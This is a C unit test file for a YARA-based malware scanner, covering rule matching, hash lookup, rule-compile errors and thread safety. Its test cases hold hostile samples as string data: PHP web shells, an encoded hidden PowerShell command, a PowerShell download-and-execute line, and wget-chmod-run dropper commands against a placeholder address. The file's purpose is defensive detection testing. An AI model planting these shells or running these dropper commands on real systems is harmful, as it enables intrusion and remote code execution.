/* SPDX-License-Identifier: Apache-2.0 */
#include "os/file.h"
#include "scan/scan.h"
#include "tests/test.h"

#include <pthread.h>
#include <sys/stat.h>
#include <unistd.h>

static struct scan_rules *own_rules(void)
{
    const char *path = "rules/yara";
    struct scan_rules *r = NULL;
    struct error err;
    if (scan_rules_load(&path, 1, &r, &err) != ST_OK)
        fail_msg("%s", err.text);
    for (size_t i = 0; i < scan_problem_count(r); i++)
        fail_msg(STR_FMT ": " STR_FMT, STR_ARG(scan_problem(r, i)->file),
                 STR_ARG(scan_problem(r, i)->reason));
    assert_int_equal(scan_rules_count(r), 7);
    return r;
}

static struct scan_result scan(struct scan_rules *r, str bytes, struct arena *a)
{
    struct scan_result out;
    struct error err;
    struct scan_options o = {.rules = r};
    if (scan_bytes(&o, bytes, a, &out, &err) != ST_OK)
        fail_msg("%s", err.text);
    return out;
}

/* In two parts, so that this file is not found itself. */
#define EICAR_HEAD "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-"
#define EICAR_TAIL "ANTIVIRUS-TEST-FILE!$H+H*"
#define PHP                                                                                        \
    "<?p"                                                                                          \
    "hp "
#define BASE64 "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"

static void finds_what_its_rules_are_for(void **state)
{
    static const struct {
        const char *rule, *text; /* rule NULL: nothing */
    } cases[] = {
        {"eicar_test_file", EICAR_HEAD EICAR_TAIL},
        {"php_web_shell", PHP "@eval($_POST['c']); ?>"},
        {"php_web_shell", PHP "system(base64_decode($_GET[\"q\"]));"},
        {"php_web_shell", PHP "$_GET['f']($_POST['a']);"},
        {"php_packed_code", PHP "eval(gzinflate(base64_decode('80jNyclXyFTPVUhJTc5PSQUA')));"},
        {"powershell_encoded_command", "cmd /c powershell.exe -nop -w hidden -enc " BASE64},
        {"powershell_download_and_run",
         "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"},
        {"elf_dropper", "\x7f"
                        "ELF\2\1\1 wget http://192.0.2.1/x; chmod 777 /tmp/.x; /tmp/.x"},
        {"shell_dropper", "cd /tmp; wget 192.0.2.1/mips; chmod +x mips; ./mips; rm -rf mips"},
        {NULL, ""},
        {NULL, PHP "echo htmlspecialchars($_GET['name']); $x = eval('1+1');"},
        {NULL, "powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1"},
        {NULL, "Invoke-WebRequest https://example.com -OutFile a.zip"},
        {NULL, "wget https://example.com/a.tar.gz && tar xf a.tar.gz"},
        {NULL, "\x7f"
               "ELF\2\1\1 usage: wget [OPTION]... [URL]..."},
    };
    struct scan_rules *r = own_rules();
    struct arena a;
    arena_init(&a, 64 << 20);
    for (size_t i = 0; i < COUNT(cases); i++) {
        struct scan_result out = scan(r, str_z(cases[i].text), &a);
        if (out.matches != (cases[i].rule != NULL) ||
            (out.matches && !str_eq(out.match[0].rule, str_z(cases[i].rule))))
            fail_msg("case %zu: %zu matches, " STR_FMT, i, out.matches,
                     STR_ARG(out.matches ? out.match[0].rule : STR("none")));
        assert_true((scan_score(&out) > 0) == (cases[i].rule != NULL));
    }
    arena_done(&a);
    scan_rules_unref(r);
}

static void finds_nothing_in_ordinary_files(void **state)
{
    static const char *const files[] = {"Makefile",      "README.md",
                                        "scripts/setup", "/bin/ls",
                                        "/bin/bash",     "/usr/lib/x86_64-linux-gnu/libc.so.6"};
    struct scan_rules *r = own_rules();
    struct arena a;
    arena_init(&a, 64 << 20);
    for (size_t i = 0; i < COUNT(files); i++) {
        struct sbuf text;
        sbuf_init(&text, 64 << 20);
        if (file_read_all(files[i], &text, NULL) == ST_OK)
            assert_int_equal(scan(r, sbuf_str(&text), &a).matches, 0);
        sbuf_done(&text);
    }
    arena_done(&a);
    scan_rules_unref(r);
}

static void tells_where_and_what(void **state)
{
    struct scan_rules *r = own_rules();
    struct arena a;
    arena_init(&a, 8 << 20);
    struct scan_result out = scan(r, STR("......" EICAR_HEAD EICAR_TAIL), &a);
    assert_int_equal(out.matches, 1);
    const struct scan_match *m = &out.match[0];
    assert_int_equal(m->tags, 1);
    assert_true(str_eq(m->tag[0], STR("test")));
    assert_true(str_ends(m->space, STR("rules/yara/test_file.yar")));
    assert_int_equal(m->strings, 1);
    assert_true(str_eq(m->string[0].name, STR("$text")));
    assert_int_equal(m->string[0].offset, 6);
    assert_int_equal(m->string[0].length, 68);
    assert_true(str_starts(m->string[0].bytes, STR("X5O!P")));
    assert_true(m->metas >= 2 && str_eq(m->meta[0].name, STR("description")));
    assert_true(scan_score(&out) == 0.5);
    arena_done(&a);
    scan_rules_unref(r);
}

static void makes_digests_and_looks_them_up(void **state)
{
    struct intel_set *set = intel_set_new(&(struct intel_options){0});
    struct indicator item = {
        .kind = INTEL_KIND_COUNT,
        .value = STR("BA7816BF8F01CFEA414140DE5DAE2223B00361A396177A9CB410FF61F20015AD"),
        .source = STR("unit"),
        .confidence_01 = 0.9f};
    assert_int_equal(intel_set_add(set, &item, false, NULL), ST_OK);
    item.value = STR("d41d8cd98f00b204e9800998ecf8427e"); /* MD5 of nothing */
    assert_int_equal(intel_set_add(set, &item, true, NULL), ST_OK);
    intel_set_freeze(set);
    struct arena a;
    struct scan_result out;
    arena_init(&a, 8 << 20);
    struct scan_options o = {.intel = {NULL, set}};
    assert_int_equal(scan_bytes(&o, STR("abc"), &a, &out, NULL), ST_OK);
    assert_string_equal(out.digest[DIGEST_MD5], "900150983cd24fb0d6963f7d28e17f72");
    assert_string_equal(out.digest[DIGEST_SHA1], "a9993e364706816aba3e25717850c26c9cd0d89d");
    assert_int_equal(out.knowns, 1);
    assert_true(scan_score(&out) > 0.89);
    assert_int_equal(scan_bytes(&o, STR(""), &a, &out, NULL), ST_OK);
    assert_true(out.allowed && out.knowns == 0 && scan_score(&out) == 0);
    arena_done(&a);
    intel_set_free(set);
}

static void write_file(const char *folder, const char *name, const char *text)
{
    char path[128];
    snprintf(path, sizeof path, "%s/%s", folder, name);
    FILE *f = fopen(path, "w");
    assert_non_null(f);
    fputs(text, f);
    fclose(f);
}

static void leaves_out_what_does_not_compile(void **state)
{
    char folder[] = "/tmp/scan-XXXXXX", path[128];
    const char *paths[] = {folder};
    struct scan_rules *r = NULL;
    struct error err;
    assert_non_null(mkdtemp(folder));
    write_file(folder, "a.yar", "rule a { condition: true }");
    write_file(folder, "b.yar", "rule b { condition: nonsense }");
    write_file(folder, "c.yara", "include \"/etc/passwd\"\nrule c { condition: true }");
    write_file(folder, "d.yar", "rule d { condition: filesize > 0 }");
    write_file(folder, "notes.txt", "this is no rule");
    assert_int_equal(scan_rules_load(paths, 1, &r, &err), ST_OK);
    assert_int_equal(scan_rules_count(r), 2);
    assert_int_equal(scan_problem_count(r), 2);
    assert_true(str_ends(scan_problem(r, 0)->file, STR("b.yar")));
    assert_int_equal(scan_problem(r, 0)->line, 1);
    assert_true(str_contains(scan_problem(r, 0)->reason, STR("nonsense")));
    struct arena a;
    arena_init(&a, 8 << 20);
    assert_int_equal(scan(r, STR("x"), &a).matches, 2);
    for (size_t cap = 1; cap < 1 << 16; cap *= 4) { /* any limit ends in a refusal */
        struct arena small;
        struct scan_result out;
        struct scan_options o = {.rules = r};
        arena_init(&small, cap);
        status st = scan_bytes(&o, STR("x"), &small, &out, NULL);
        assert_true(st == ST_LIMIT || st == ST_OK);
        arena_done(&small);
    }
    arena_done(&a);
    scan_rules_unref(r);
    static const char *const names[] = {"a.yar", "b.yar", "c.yara", "d.yar", "notes.txt"};
    for (size_t i = 0; i < COUNT(names); i++) {
        snprintf(path, sizeof path, "%s/%s", folder, names[i]);
        unlink(path);
    }
    rmdir(folder);
    assert_int_equal(scan_rules_load(paths, 1, &r, &err), ST_NOT_FOUND);
}

static void *scan_much(void *arg)
{
    for (int i = 0; i < 50; i++) {
        struct arena a;
        struct scan_rules *mine = scan_rules_ref(arg);
        arena_init(&a, 8 << 20);
        assert_int_equal(scan(mine, STR(EICAR_HEAD EICAR_TAIL), &a).matches, 1);
        arena_done(&a);
        scan_rules_unref(mine);
    }
    return NULL;
}

static void is_used_by_many_threads(void **state)
{
    pthread_t t[4];
    struct scan_rules *r = own_rules();
    for (size_t i = 0; i < COUNT(t); i++)
        assert_int_equal(pthread_create(&t[i], NULL, scan_much, r), 0);
    for (size_t i = 0; i < COUNT(t); i++)
        pthread_join(t[i], NULL);
    scan_rules_unref(r);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(finds_what_its_rules_are_for),
        cmocka_unit_test(finds_nothing_in_ordinary_files),
        cmocka_unit_test(tells_where_and_what),
        cmocka_unit_test(makes_digests_and_looks_them_up),
        cmocka_unit_test(leaves_out_what_does_not_compile),
        cmocka_unit_test(is_used_by_many_threads),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
